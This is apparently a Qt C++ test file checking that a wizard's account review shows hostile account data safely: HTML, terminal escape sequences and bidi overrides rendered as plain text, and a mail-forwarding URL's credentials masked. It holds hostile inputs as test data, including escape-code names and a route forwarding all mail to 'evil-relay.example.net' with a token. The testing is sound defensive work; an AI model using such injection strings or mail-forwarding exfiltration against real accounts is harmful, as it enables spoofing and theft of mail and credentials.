// The wizard's account review of a practice account the attacker wrote into (HostileAccount.h):
// names with HTML, escape sequences and bidi overrides are shown as plain text, with what
// acts instead of showing replaced by U+FFFD, in the table, its tooltips, the details below
// it, every label and the question asked before a removal; no credential of a URL is shown.
#include "AccountReviewPanel.h"
#include "AccountSummaryView.h"
#include "FindingsTable.h"
#include "HostileAccount.h"
#include "InvestigatePanel.h"
#include "TableCellDelegate.h"
#include "WizardHarness.h"
#include "models/ModelRoles.h"

#include <QLabel>
#include <QPushButton>
#include <QRadioButton>
#include <QStandardItemModel>
#include <QStyleOptionViewItem>
#include <QTabWidget>
#include <QTest>

using namespace Qt::StringLiterals;

class TestHostileLabels : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();

    void reviewShowsHostileTextAsPlainText();
    void tableCellsShowHostileNamesHarmlessly();
    void twoLineCellsKeepTheirLineBreak();

private:
    int rowContaining(const QString& text) const;
    static void verifyShownSafely(const QString& shown, const char* where);

    std::unique_ptr<WizardHarness> m_h;
    AccountReviewPanel* m_review = nullptr;
};

void TestHostileLabels::init()
{
    m_h = std::make_unique<WizardHarness>();
    QString error;
    QVERIFY2(m_h->start(&error), qPrintable(error));
    m_h->clickNext();
    m_h->toggle(m_h->find<QRadioButton>(u"modePracticeRadio"_s));
    m_h->click(m_h->find<QPushButton>(u"connectCheckButton"_s));
    QTRY_VERIFY_WITH_TIMEOUT(m_h->find<AccountSummaryView>(u"connectSummaryBox"_s)->isVisible(), 30000);
    QTRY_VERIFY(m_h->nextEnabled());
    m_h->clickNext();
    auto* panel = m_h->find<InvestigatePanel>(u"investigatePanel"_s);
    QVERIFY(panel);
    HostileAccount::seed(m_h->practiceServer()->account());
    m_review = panel->accountReview();
    panel->tabs()->setCurrentIndex(2);
    m_h->click(m_h->find<QPushButton>(u"startReviewButton"_s));
    QTRY_VERIFY_WITH_TIMEOUT(!m_review->isRunning(), 60000);
}

void TestHostileLabels::cleanup()
{
    m_h.reset();
}

int TestHostileLabels::rowContaining(const QString& text) const
{
    const QAbstractItemModel* model = m_review->table()->model();
    for (int row = 0; row < model->rowCount(); ++row) {
        if (model->index(row, FindingsTable::WhatColumn).data().toString().contains(text))
            return row;
    }
    return -1;
}

void TestHostileLabels::verifyShownSafely(const QString& shown, const char* where)
{
    for (const QString& secret : HostileAccount::secrets)
        QVERIFY2(!shown.contains(secret), qPrintable(secret + u" in "_s + QLatin1StringView(where)));
    QString why;
    QVERIFY2(HostileAccount::terminalSafe(shown.toUtf8(), &why), qPrintable(QLatin1StringView(where) + why));
}

void TestHostileLabels::reviewShowsHostileTextAsPlainText()
{
    FindingsTable* table = m_review->table();
    const QAbstractItemModel* model = table->model();

    // The subaccount: its HTML is text, its escape sequence and isolates are replaced.
    const QString shownName = u"\u201c<b>Billing</b>\uFFFD]0;pwned\uFFFD\uFFFDnotices\uFFFD\u201d"_s;
    const int subaccount = rowContaining(shownName);
    QVERIFY2(subaccount >= 0, qPrintable(model->index(0, FindingsTable::WhatColumn).data().toString()));
    const QString toolTip =
        model->index(subaccount, FindingsTable::WhatColumn).data(Qt::ToolTipRole).toString();
    QVERIFY2(toolTip.contains(u"&lt;b&gt;Billing&lt;/b&gt;"_s), qPrintable(toolTip));
    QVERIFY(!toolTip.contains(u"<b>"_s));
    table->selectRow(subaccount);
    auto* details = m_h->find<QLabel>(u"reviewFindingsTableDetails"_s);
    QTRY_VERIFY(details->isVisible());
    QCOMPARE(details->textFormat(), Qt::PlainText);
    QVERIFY2(details->text().contains(shownName), qPrintable(details->text()));

    // The catch-all route with a forwarding URL full of credentials.
    const int route = rowContaining(u"evil-relay.example.net"_s);
    QVERIFY(route >= 0);
    const QString routeTitle = model->index(route, FindingsTable::WhatColumn).data().toString();
    QCOMPARE(routeTitle, u"A route copies all incoming mail to "_s + HostileAccount::maskedForwardUrl);
    table->selectRow(route);
    QTRY_VERIFY(details->text().contains(HostileAccount::maskedForwardUrl));
    for (int row = 0; row < model->rowCount(); ++row) {
        for (int column = 0; column < model->columnCount(); ++column) {
            verifyShownSafely(model->index(row, column).data().toString(), "a cell");
            verifyShownSafely(model->index(row, column).data(Qt::ToolTipRole).toString(), "a tooltip");
        }
    }

    // The question before removing it.
    QPushButton* remove = m_h->find<QPushButton>(u"removeFindingButton"_s);
    QVERIFY(remove->isEnabled());
    MessageBox::answerNext(false);
    m_h->click(remove);
    QCOMPARE(MessageBox::shownCount(), 1);
    const QString question = MessageBox::lastShown().text;
    QVERIFY2(question.contains(u"forward(\"https://***@evil-relay.example.net/in?token=***&x=1\")"_s),
             qPrintable(question));
    verifyShownSafely(question, "the question");

    // Every label of the wizard: nothing from the account as rich text, no credential.
    for (const QLabel* label : m_h->wizard->findChildren<QLabel*>()) {
        verifyShownSafely(label->text(), "a label");
        verifyShownSafely(label->toolTip(), "a label's tooltip");
        if (label->text().contains(u"Billing"_s) || label->text().contains(u"evil-relay"_s))
            QCOMPARE(label->textFormat(), Qt::PlainText);
    }
}

namespace {

// Shows the text a cell is drawn with.
class CellText : public TableCellDelegate
{
public:
    QString of(const QModelIndex& index) const
    {
        QStyleOptionViewItem option;
        initStyleOption(&option, index);
        return option.text;
    }
};

} // namespace

void TestHostileLabels::tableCellsShowHostileNamesHarmlessly()
{
    // The users, keys and SMTP logins tables draw their cells with this delegate.
    QStandardItemModel model;
    model.appendRow({new QStandardItem(HostileAccount::userName), new QStandardItem(u"Zoë 山田"_s)});
    const CellText cells;
    QCOMPARE(cells.of(model.index(0, 0)), u"Eve\uFFFD\uFFFD[1A\uFFFD[2KAdmin\uFFFDnimda"_s);
    QCOMPARE(cells.of(model.index(0, 1)), u"Zoë 山田"_s);
}

void TestHostileLabels::twoLineCellsKeepTheirLineBreak()
{
    // The user tables of steps 4 and 5 show a name and an address on two lines: the break is
    // drawn as a break (U+2028 for Qt's text layout), never as a replacement character.
    QStandardItemModel model;
    auto* person = new QStandardItem(u"Dana Reyes\ndana@example.com"_s);
    person->setData(true, ModelRoles::LinesRole);
    auto* hostile = new QStandardItem(u"Eve\x1b[2K\neve@example.net"_s);
    hostile->setData(true, ModelRoles::LinesRole);
    model.appendRow({person, new QStandardItem(u"Dana Reyes\ndana@example.com"_s)});
    model.appendRow({hostile});
    const CellText cells;
    QCOMPARE(cells.of(model.index(0, 0)), u"Dana Reyes\u2028dana@example.com"_s);
    // Without the role a line feed is still replaced: a value cannot forge a line.
    QCOMPARE(cells.of(model.index(0, 1)), u"Dana Reyes\uFFFDdana@example.com"_s);
    // Each line is still made safe.
    QCOMPARE(cells.of(model.index(1, 0)), u"Eve\uFFFD[2K\u2028eve@example.net"_s);
}

QTEST_MAIN(TestHostileLabels)
#include "tst_hostilelabels.moc"
